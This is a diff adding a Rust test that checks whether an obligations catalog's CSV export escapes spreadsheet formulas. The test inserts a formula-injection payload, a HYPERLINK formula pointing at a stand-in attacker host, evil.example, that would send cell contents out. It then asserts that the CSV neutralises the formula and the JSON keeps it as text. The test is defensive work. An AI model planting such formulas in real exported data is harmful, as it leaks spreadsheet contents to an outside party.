@@ -1428,3 +1428,19 @@ fn a_directions_page_names_each_provision_by_its_place() {
         "{page}"
     );
 }
+
+#[test]
+fn a_formula_in_the_catalog_is_text_in_the_csv_download() {
+    let s = Sandbox::with(FIXTURE);
+    s.sql("UPDATE obligations SET action = '=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")' WHERE rowid = (SELECT min(rowid) FROM obligations)");
+    s.report("site", &[]);
+    let csv = fs::read_to_string(s.path("site/data/obligations.csv")).unwrap();
+    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
+    assert!(
+        !csv.contains(",\"=HYPERLINK(") && !csv.contains(",=HYPERLINK("),
+        "{csv}"
+    );
+    // The JSON keeps the catalog's text as it is.
+    let json = fs::read_to_string(s.path("site/data/obligations.json")).unwrap();
+    assert!(json.contains("\"=HYPERLINK("), "{json}");
+}
